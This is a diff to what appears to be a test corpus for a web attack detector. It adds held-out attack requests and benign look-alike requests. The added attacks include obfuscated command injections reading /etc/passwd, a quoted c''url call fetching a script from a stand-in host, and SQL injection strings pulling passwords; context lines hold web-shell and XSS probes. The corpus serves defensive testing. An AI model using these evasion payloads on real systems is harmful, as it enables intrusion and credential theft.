@@ -570,6 +570,11 @@ const HOLDOUT_4_ATTACKS: CorpusEntry[] = [
   { category: 'scanner', name: 'holdout-4: a PHP web shell behind a path parameter', why: 'shell.php;.png passes an extension check that reads the end', path: '/uploads/shell.php;.png' },
   { category: 'scanner', name: 'holdout-4: the git folder', why: 'An exposed .git folder gives the source away', path: '/.git' },
   { category: 'scanner', name: 'holdout-4: a database dump at the root', why: 'Scanners guess backup archives', path: '/backup/db.sql.gz' },
+  { category: 'cmdi', name: 'holdout-4: a command spelled with backslashes', why: 'A shell drops the backslashes: c\\a\\t /e\\t\\c/p\\a\\s\\swd runs cat /etc/passwd', path: `/api/tools/ping?host=${pct('127.0.0.1; c\\a\\t \\/e\\t\\c/p\\a\\s\\swd')}` },
+  { category: 'cmdi', name: 'holdout-4: a command with empty variables in a custom header', why: '$u is unset: cat$u /etc$u/passwd runs cat /etc/passwd (a cookie cannot carry the ;: it separates cookies)', path: '/api/health', headers: { 'Probe-Host': 'example.com; cat$u /etc$u/passwd$u' } },
+  { category: 'cmdi', name: 'holdout-4: a download spelled with quotes in a custom header', why: "c''url is curl to a shell", path: '/api/health', headers: { 'Callback-Url': "x| c''url -s http://198.51.100.7/x.sh" } },
+  { category: 'sqli', name: 'holdout-4: a quote, a semicolon and a comment in a custom header', why: "admin'; -- - ends the statement after the name", path: '/api/me', headers: { ...bearer, 'Login-Hint': "admin'; -- -" } },
+  { category: 'sqli', name: 'holdout-4: UNION DISTINCTROW in a header', why: 'MySQL\'s synonym of UNION DISTINCT', path: '/api/runs', headers: { ...bearer, 'Account-Id': "1' UNION DISTINCTROW SELECT password FROM users-- -" } },
   { category: 'xss', name: 'holdout-4: XMLHttpRequest in the User-Agent', why: 'A log viewer that renders user agents runs it', path: '/api/health', headers: { 'User-Agent': "x=new XMLHttpRequest();x.open('GET','/api/me');x.send()" } },
 ];
 
@@ -584,6 +589,7 @@ const HOLDOUT_4_BENIGN: CorpusEntry[] = [
   { category: 'write', name: 'holdout-4: a question about computed calls and tagged templates', why: 'Front-end code in a prompt (an API body)', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why does window[handlerName](event) throw here, and what does String.raw.call`x` return? Also [1,2,3].with(0, alert) in the docs.') },
   { category: 'read', name: 'holdout-4: an export archive, a PHP slug and a Windows user path', why: 'Archives under /api are exports; a wiki page may be about PHP; a cookie may keep a document path', path: '/api/exports/runs-2026-11.zip', headers: { ...bearer, Cookie: 'last_file=C:/Users/ana/Documents/report.docx' } },
   { category: 'read', name: 'holdout-4: a wiki page about PHP', why: 'Slugs name languages and file types', path: '/api/wiki/php-vs-python/migrating-index.php-routes', headers: bearer },
+  { category: 'write', name: 'holdout-4: semicolons before words that are commands', why: 'Prose: "; cat/dog photos", "; id cards", "; sleep well"', method: 'POST', path: '/api/feedback', headers: { ...bearer, ...form }, body: `comment=${pct("Loved it; cat/dog photos next time; id cards at the desk; sleep well, it's \"done\"")}` },
   { category: 'write', name: 'holdout-4: a question about document.cookie', why: 'Front-end questions name the cookie API in a prompt', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('How do I read document.cookie in a Jest test, and why is it empty under jsdom?') },
   { category: 'write', name: 'holdout-4: form values that start with on', why: 'ongoing, onboarding, online and "on error" are words, /onload/settings a path', method: 'POST', path: '/api/feedback', headers: { ...bearer, ...form }, body: 'status=ongoing&topic=onboarding&comment=one-off%20fix%2C%20online%20now%3B%20on%20error%20we%20retry&next=%2Fonload%2Fsettings' },
 ];
